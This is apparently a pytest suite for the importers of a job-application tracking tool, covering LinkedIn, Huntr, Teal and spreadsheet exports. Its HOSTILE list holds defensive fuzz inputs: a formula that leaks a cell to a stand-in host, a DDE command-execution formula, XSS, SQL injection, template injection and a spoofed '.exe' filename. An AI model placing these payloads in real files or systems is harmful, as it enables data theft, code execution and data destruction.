"""What every importer keeps to. A new one joins with a line in SAMPLES."""

import csv
import io
import json
import random
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest

from followup_kit.errors import InvalidInput, NotFound
from followup_kit.importers import IMPORTERS, Options, Source, importer_of, read_file, read_source
from tests.zipped import zipped

#: Two applications in each format: Acme without a reply, Bolt rejected on 2025-03-20.
TABLE = """Company,Role,Date sent,Status,Rejection date
Acme,Chef,2025-03-04,Ghosted,
Bolt,Cook,2025-03-05,Rejected,2025-03-20
"""
ROWS = [line.split(",") for line in TABLE.splitlines()]
LINKEDIN = """Application Date,Contact Email,Contact Phone Number,Company Name,Job Title,Job Url,Resume Name,\
Question And Answers
"3/4/25, 11:39 PM",me@home.example, 49 711 1,Acme,Chef,https://jobs.example/1,cv.pdf,"Salary? 90000
Health? fine"
"3/5/25, 8:00 AM",me@home.example, 49 711 1,Bolt,Cook,https://jobs.example/2,cv.pdf,
"""
SAVED = 'Saved Date,Job Url,Job Title,Company Name\n"3/6/25, 8:00 AM",https://jobs.example/3,Waiter,Cory\n'
SIMPLIFY = """Job Title,Company Name,Job URL,Applied Date,Status,Status Date,Archived,Date Archived,Notes
Chef,Acme,https://jobs.example/1,2025-03-04,APPLIED,2025-03-04,false,N/A,
Cook,Bolt,https://jobs.example/2,2025-03-05,REJECTED,2025-03-20,true,2025-04-01,
"""
TEAL = """\ufeffid,company_name,role,location,url,excitement,source,min_salary,applied_at,updated_at,status,statusName
1,Acme,Chef,Ulm,https://jobs.example/1,4,Teal,,2025-03-04T10:00:00.000Z,2025-06-01,4,Applied
2,Bolt,Cook,Ulm,https://jobs.example/2,4,Teal,,2025-03-05T10:00:00.000Z,2025-06-01,9,Not selected
"""
JOBSYNC = """index,createdAt,applied,appliedDate,Company,JobTitle,jobType,workplaceType,Location,JobSource,Status
1,2025-03-01,true,2025-03-04,Acme,Chef,FT,Remote,Ulm,Indeed,Applied
2,2025-03-01,true,2025-03-05,Bolt,Cook,FT,Remote,Ulm,Indeed,Rejected
"""
HUNTR = """listName,companyName,title,location,htmlDescription
Applied,Acme,Chef,Ulm,<p>Hi</p>
Rejected,Bolt,Cook,Ulm,<b>x</b>
"""
SANKEY = "Applied [1] No answer\nApplied [1] Rejected #aa0000\n"
#: What a format can tell of the two; "?" is a day that it does not hold.
TOLD = {
    "linkedin": [("applied 2025-03-04",), ("applied 2025-03-05",)],
    "huntr": [("applied ?",), ("applied ?", "rejected ?")],
    "teal": [("applied 2025-03-04",), ("applied 2025-03-05", "rejected ?")],
    "jobsync": [("applied 2025-03-04",), ("applied 2025-03-05", "rejected ?")],
    "sankeymatic": [],
}
BEST = [("applied 2025-03-04",), ("applied 2025-03-05", "rejected 2025-03-20")]
UNDATED = {"teal", "jobsync"}


#: By importer: the files it reads, each by the name that a user's own may have.
SAMPLES: dict[str, dict[str, bytes | Callable[..., bytes]]] = {
    "linkedin": {
        "Job Applications.csv": LINKEDIN.encode(),
        "Applications saved again.xlsx": lambda make: make.xlsx(A=list(csv.reader(io.StringIO(LINKEDIN)))),
        "Complete_LinkedInDataExport.zip": zipped(
            {"Jobs/Job Applications.csv": LINKEDIN, "Jobs/Saved Jobs.csv": SAVED, "Profile.csv": "Name\nMe\n"}
        ),
    },
    "huntr": {
        "huntr.zip": zipped({"USER_JOBS_USER_FULL_DATA_DOWNLOAD_1.csv": HUNTR, "USER_NOTES.csv": "a\n1\n"}),
        "jobs.csv": HUNTR.encode(),
    },
    "simplify": {"simplify.csv": SIMPLIFY.encode()},
    "teal": {"teal.csv": TEAL.encode()},
    "jobsync": {"jobsync.csv": JOBSYNC.encode()},
    "sankeymatic": {"diagram.txt": SANKEY.encode()},
    "spreadsheet": {
        "log.csv": TABLE.encode(),
        "log.tsv": TABLE.replace(",", "\t").encode(),
        "log.txt": TABLE.replace(",", ";").encode(),
        "log.xlsx": lambda make: make.xlsx(Log=ROWS),
        "log.ods": lambda make: make.ods(ROWS),
        "log.json": json.dumps([dict(zip(ROWS[0], row, strict=True)) for row in ROWS[1:]]).encode(),
        "log.md": TABLE.replace(",", " | ").replace("\nAcme", "\n--- | --- | --- | --- | ---\nAcme").encode(),
    },
}
FILES = [(importer, name) for importer, files in SAMPLES.items() for name in files]


@pytest.fixture(params=FILES, ids=lambda file: " ".join(file))
def sample(request, tmp_path, make) -> Path:
    importer, name = request.param
    path = tmp_path / name
    content = SAMPLES[importer][name]
    path.write_bytes(content(make) if callable(content) else content)
    return path


@pytest.fixture
def importer(sample) -> str:
    return next(importer for importer, name in FILES if name == sample.name)


def test_every_importer_has_a_sample_here():
    assert set(SAMPLES) == set(IMPORTERS) - {"mailbox", "justajobapp"}, (
        "mail makes proposals: test_mailbox.py and test_mailing.py"
    )
    assert all(SAMPLES.values())


def test_a_file_is_recognised_for_what_it_is(sample, importer):
    assert importer_of(Source.at(sample)) == importer


def test_bytes_from_a_form_read_like_the_file(sample):
    options = Options(today=date(2025, 6, 30))
    given = Source(sample.name, given=sample.read_bytes())
    assert read_source(given, options) == read_source(Source.at(sample), options)


def told(imported):
    return [tuple(f"{e.kind.value} {e.event_on or '?'}" for e in a.events) for a in imported.applications]


def test_it_gives_applications_with_events_in_order(sample, importer):
    got = read_file(sample, as_of="2025-06-30")
    expected = TOLD.get(importer, BEST)
    assert told(got) == expected
    assert [(a.company, a.role) for a in got.applications] == [("Acme", "Chef"), ("Bolt", "Cook")][: len(expected)]
    assert [question.key.rpartition(":")[0] for question in got.questions] == ["date:rejected"] * (importer in UNDATED)
    assert got.notes
    assert got.format == importer


def test_what_is_private_is_left_out_and_said_so(sample, importer):
    got = read_file(sample, as_of="2025-06-30")
    if importer == "linkedin":
        assert any("private" in note and "Question And Answers" in note for note in got.notes)
    assert not any(secret in repr(got) for secret in ("me@home.example", "49 711", "90000"))


def test_a_second_import_changes_nothing(sample, tracker):
    first = tracker.read(sample, as_of="2025-06-30", open_questions="leave")
    frame = tracker.events()
    again = tracker.read(sample, as_of="2025-06-30", open_questions="leave")
    assert (len(again.added), len(again.changed), len(again.unchanged)) == (0, 0, len(first.added))
    assert tracker.events().equals(frame)


def test_the_same_file_gives_the_same(sample):
    assert read_file(sample, as_of="2025-06-30") == read_file(sample, as_of="2025-06-30")


def test_the_ending_may_be_in_capitals_or_the_format_named(sample, importer, tmp_path):
    shouted = sample.rename(tmp_path / f"LOG{sample.suffix.upper()}")
    apart = tmp_path / "log.unknown"
    apart.write_bytes(shouted.read_bytes())
    expected = read_file(shouted, as_of="2025-06-30")
    assert read_file(apart, format=importer, as_of="2025-06-30") == expected


def test_a_day_after_as_of_is_a_question(sample, importer):
    keys = [question.key for question in read_file(sample, as_of="2025-03-03").questions]
    dated = [event.split()[0] for events in TOLD.get(importer, BEST) for event in events if "?" not in event]
    assert sorted(key.split(":")[1] for key in keys) == sorted(dated + ["rejected"] * (importer in UNDATED))


def test_an_empty_or_missing_file_is_told(sample):
    sample.write_bytes(b"")
    with pytest.raises(InvalidInput, match="empty"):
        read_file(sample)
    sample.unlink()
    with pytest.raises(NotFound):
        read_file(sample)


def test_a_file_or_format_without_a_reader_names_those_there_are(tmp_path):
    (tmp_path / "log.xyz").write_bytes(b"abc")
    with pytest.raises(InvalidInput, match=r"\.xyz.*tables \(\.csv.*Teal.*mail"):
        read_file(tmp_path / "log.xyz")
    with pytest.raises(InvalidInput, match=r"“abc”.*spreadsheet"):
        read_file(tmp_path / "log.xyz", format="abc")


def test_a_day_that_is_none_is_told(sample):
    with pytest.raises(InvalidInput, match="as_of"):
        read_file(sample, as_of="yesterday")


#: What may stand in a cell of a stranger's file.
HOSTILE = [
    '=HYPERLINK("https://x.example?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1-2@SUM(A1)",
    "<img src=x onerror=alert(1)><script>alert(2)</script>",
    "{{ 7*7 }} {% x %} ${7*7} %s %(a)s {0}",
    "'; DROP TABLE events; --",
    "\u202egnp.exe\u2066\u200f\u200b",
    "a\x1bb\x7fc",
    "\ud7ff\U0001f9d1\u200d\U0001f373 e\u0301 \ufffe",
    "|".join(["](x)", "\\", '"', "`"]),
    "x" * 100_000,
]
#: A text of each importer that reads tables.
TEXTS = {
    "linkedin": LINKEDIN,
    "simplify": SIMPLIFY,
    "teal": TEAL,
    "jobsync": JOBSYNC,
    "huntr": HUNTR,
    "spreadsheet": TABLE,
}


def written(rows) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8", errors="replace")


def texts_of(importer) -> list[list[str]]:
    return list(csv.reader(io.StringIO(TEXTS[importer].lstrip("\ufeff"))))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("importer", TEXTS)
def test_text_of_any_kind_in_any_cell_costs_no_more_than_its_own_row(importer, text, tmp_path):
    header, good, *_ = texts_of(importer)
    for column in range(len(header)):
        bad = [text if i == column else cell for i, cell in enumerate(good)]
        path = tmp_path / f"{column}.csv"
        path.write_bytes(written([header, good, bad]))
        got = read_file(path, as_of="2025-06-30")
        assert got.format == importer
        assert (got.applications[0].company, got.applications[0].role) == ("Acme", "Chef")
        assert {one.line for one in [*got.applications, *got.skipped]} == {2, 2 + good_lines(good)}


def good_lines(row) -> int:
    """The lines that a row takes: a cell may hold several."""
    return 1 + sum(cell.count("\n") for cell in row)


@pytest.mark.parametrize("importer", TEXTS)
def test_hostile_text_survives_the_log_as_it_was_written(importer, tracker, tmp_path):
    header, good, *_ = texts_of(importer)
    company = next(i for i, cell in enumerate(good) if cell == "Acme")
    rows = [[text[:200] if i == company else cell for i, cell in enumerate(good)] for text in HOSTILE[:6]]
    path = tmp_path / "log.csv"
    path.write_bytes(written([header, *rows]))
    tracker.read(path, as_of="2025-06-30", open_questions="leave")
    assert list(tracker.applications().company) == HOSTILE[:6]
    again = tracker.read(path, as_of="2025-06-30", open_questions="leave")
    assert (len(again.added), len(again.changed)) == (0, 0)


@pytest.mark.parametrize("importer", TEXTS)
def test_rows_in_another_order_add_nothing(importer, tracker, tmp_path):
    header, good, other, *_ = texts_of(importer)
    company = next(i for i, cell in enumerate(good) if cell == "Acme")
    rows = [
        good,
        good,
        other,
        *([f"Firm {n}" if i == company else cell for i, cell in enumerate(good)] for n in range(5)),
    ]
    path = tmp_path / "log.csv"
    path.write_bytes(written([header, *rows]))
    first = tracker.read(path, as_of="2025-06-30", open_questions="leave")
    path.write_bytes(written([header, *random.Random(2).sample(rows, len(rows))]))
    again = tracker.read(path, as_of="2025-06-30", open_questions="leave")
    assert (len(first.added), len(again.added), len(again.changed), len(again.unchanged)) == (8, 0, 0, 8)
